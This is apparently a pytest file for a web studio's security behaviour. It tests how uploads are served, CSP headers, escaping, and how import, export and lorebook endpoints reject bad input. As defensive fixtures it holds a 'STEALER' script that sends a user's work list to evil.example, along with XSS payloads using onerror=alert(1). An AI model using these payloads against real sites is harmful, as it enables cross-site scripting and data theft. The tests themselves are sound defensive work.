"""What the studio sends to browsers: user files can't run as its pages, pages run no inline script,
and the HTTP faces of import, export and lorebooks answer bad or oversized input with a 4xx."""

import io
import json
import re
import zipfile

import pytest
from fastapi.testclient import TestClient

from muselab.api.app import create_app
from muselab.library.media import CONTENT_HEADERS
from muselab.web import PAGE_CSP

STEALER = b"""<!doctype html><script>
fetch('/v1/works').then(r => r.json()).then(d => fetch('https://evil.example/?' + JSON.stringify(d)));
</script>"""


@pytest.fixture
def client(sqlite_studio):
    with TestClient(create_app(sqlite_studio, start_workers=False), base_url="http://127.0.0.1") as c:
        yield c


def _upload(client, name: str, data: bytes, media_type: str) -> dict:
    r = client.post("/v1/works", files={"file": (name, io.BytesIO(data), media_type)})
    assert r.status_code == 201, r.text
    return r.json()


def _png() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buf, format="PNG")
    return buf.getvalue()


# ---- user files -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name,media_type", [
    ("page.html", "text/html"), ("page.html", "text/html; charset=utf-8"), ("logo.svg", "image/svg+xml"),
    ("page.xhtml", "application/xhtml+xml"), ("feed.xml", "text/xml"), ("app.js", "text/javascript"),
    ("odd.bin", "Text/HTML"), ("unknown", "not a media type"),
])
def test_uploaded_pages_and_scripts_are_downloads_never_pages_of_the_studio(client, name, media_type):
    work = _upload(client, name, STEALER, media_type)
    for url in (f"/v1/works/{work['id']}/content", f"/v1/works/{work['id']}/content?download=false"):
        r = client.get(url)
        assert r.status_code == 200 and r.content == STEALER, "the bytes are kept and given back as they are"
        assert r.headers["content-disposition"].startswith("attachment"), r.headers
        assert r.headers["content-type"] == "application/octet-stream", "no type a browser would run"
        assert r.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in r.headers["content-security-policy"]
        assert "default-src 'none'" in r.headers["content-security-policy"]


def test_passive_files_show_inline_with_the_same_protective_headers(client):
    png = _upload(client, "a.png", _png(), "image/png")
    r = client.get(f"/v1/works/{png['id']}/content")
    assert r.headers["content-type"] == "image/png" and r.headers["content-disposition"].startswith("inline")
    for header, value in CONTENT_HEADERS.items():
        assert r.headers[header] == value
    thumb = client.get(f"/v1/works/{png['id']}/thumbnail")
    assert thumb.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in thumb.headers["content-security-policy"]
    text = _upload(client, "a.txt", "秋风".encode(), "text/plain")
    r = client.get(f"/v1/works/{text['id']}/content")
    assert r.headers["content-type"] == "text/plain; charset=utf-8", "never left to charset sniffing"
    assert r.headers["content-disposition"].startswith("inline")
    assert client.get(f"/v1/works/{text['id']}/content?download=true").headers["content-disposition"].startswith(
        "attachment")
    data = _upload(client, "d.json", b'{"a": 1}', "application/json")
    r = client.get(f"/v1/works/{data['id']}/content")
    assert r.headers["content-type"] == "application/json" and r.headers["content-disposition"].startswith(
        "attachment"), "a passive type that isn't shown inline keeps its type, as a download"


# ---- export / import / lorebook over HTTP -------------------------------------------------------------------

def _leftovers(studio) -> list[str]:
    return [p.name for p in studio.settings.data_dir.iterdir() if p.name.startswith((".export-", ".import-"))]


def test_export_leaves_no_temporary_folder_behind(client, sqlite_studio):
    work = _upload(client, "a.txt", b"hello", "text/plain")
    for _ in range(3):
        r = client.post("/v1/export", json={"ids": [work["id"]]})
        assert r.status_code == 200 and zipfile.ZipFile(io.BytesIO(r.content)).namelist()
    assert client.post("/v1/export", json={"ids": ["0123456789abcdef"]}).status_code == 404
    assert _leftovers(sqlite_studio) == [], "neither after a download nor after an error"


def test_import_over_http_names_the_bad_field_and_limits_the_size(client, sqlite_studio, monkeypatch):
    entry = {"id": '"><img src=y onerror=alert(1)>', "kind": "text", "media_type": "text/plain",
             "sha256": "0" * 64}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("manifest.json", json.dumps({"format": "muselab-export", "version": 1, "works": [entry]}))
    r = client.post("/v1/import", files={"file": ("x.zip", buf.getvalue(), "application/zip")})
    assert r.status_code == 422 and r.json()["field"] == "works[0].id", r.text
    monkeypatch.setattr(sqlite_studio.settings, "max_import_mb", 0)  # the owner's limit: below any zip
    r = client.post("/v1/import", files={"file": ("x.zip", buf.getvalue(), "application/zip")})
    assert r.status_code == 413 and r.json()["field"] == "file"
    assert client.get("/v1/works").json()["total"] == 0 and _leftovers(sqlite_studio) == []


@pytest.mark.parametrize("body,field", [
    ({"entries": {"a": 1}}, "entries.a"),
    ({"entries": {"a": {"key": "dragon", "content": "x"}}}, "entries.a.key"),
    ({"entries": {"a": {"key": ["dragon"], "content": "x", "order": "first"}}}, "entries.a.order"),
    ({"entries": {"a": {"key": ["dragon"], "content": None}}}, "entries.a.content"),
    ({"entries": [1]}, "entries[0]"),
    ({"entries": [{"keys": ["a"], "content": "x", "priority": "high"}]}, "entries[0].priority"),
    ({"entries": [{"keys": [3], "content": "x"}]}, "entries[0].keys[0]"),
    ({"entries": "all"}, "entries"),
    (5, "entries"),
])
def test_lorebook_import_answers_every_malformed_shape_with_422(client, body, field):
    r = client.post("/v1/write/lorebook/import", files={"file": ("l.json", json.dumps(body), "application/json")})
    assert r.status_code == 422 and r.json()["field"] == field, r.text


def test_lorebook_import_refuses_unreadable_and_oversized_files(client, monkeypatch):
    from muselab.api.routers import text

    for data in (b"[" * 100_000, b"\xff\xfe\x00garbage", b"{nope"):
        r = client.post("/v1/write/lorebook/import", files={"file": ("l.json", data, "application/json")})
        assert r.status_code == 422 and r.json()["field"] == "file", r.text
    monkeypatch.setattr(text, "MAX_LOREBOOK_BYTES", 1000)
    big = json.dumps([{"keys": ["a"], "content": "x" * 2000}])
    r = client.post("/v1/write/lorebook/import", files={"file": ("l.json", big, "application/json")})
    assert r.status_code == 413 and r.json()["field"] == "file"


# ---- pages ------------------------------------------------------------------------------------------------

INLINE_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE)
SCRIPT_TAG = re.compile(r"<script\b([^>]*)>", re.IGNORECASE)


def test_every_page_has_the_csp_and_no_inline_script(client, sqlite_studio):
    from muselab.library.store import NewWork

    work = sqlite_studio.library.add(NewWork(kind="text", media_type="text/plain", data=b"x", title="w"))
    pages = [p["path"] for p in client.app.state.nav] + ["/jobs", f"/works/{work.id}", "/login"]
    for path in pages:
        r = client.get(path)
        assert r.status_code == 200, (path, r.text[:300])
        assert r.headers["content-security-policy"] == PAGE_CSP, path
        assert "script-src 'self';" in PAGE_CSP and "unsafe-inline" not in PAGE_CSP.split("script-src")[1].split(";")[0]
        assert not INLINE_HANDLER.search(r.text), (path, INLINE_HANDLER.search(r.text).group(0))
        for attrs in SCRIPT_TAG.findall(r.text):
            assert 'src="/static/' in attrs or 'type="application/json"' in attrs, (path, attrs)


def test_work_page_escapes_hostile_text_and_ids_in_links(client, sqlite_studio):
    from muselab.library.store import NewWork

    hostile = '"><img src=x onerror=alert(1)>'
    parent = sqlite_studio.library.add(NewWork(kind="text", media_type="text/plain", data=b"p", title="p"))
    work = sqlite_studio.library.add(NewWork(kind="image", media_type="image/svg+xml", data=STEALER, title=hostile,
                                             tags=["<b>tag<b>"], parents=[parent.id], model=hostile))
    page = client.get(f"/works/{work.id}").text
    assert hostile not in page and "<b>tag<b>" not in page
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in page
    assert f"/v1/works/{work.id}/content\"" not in page.split("work-view")[1].split("</div>")[0], \
        "an SVG is not shown in the page, only offered as a download"
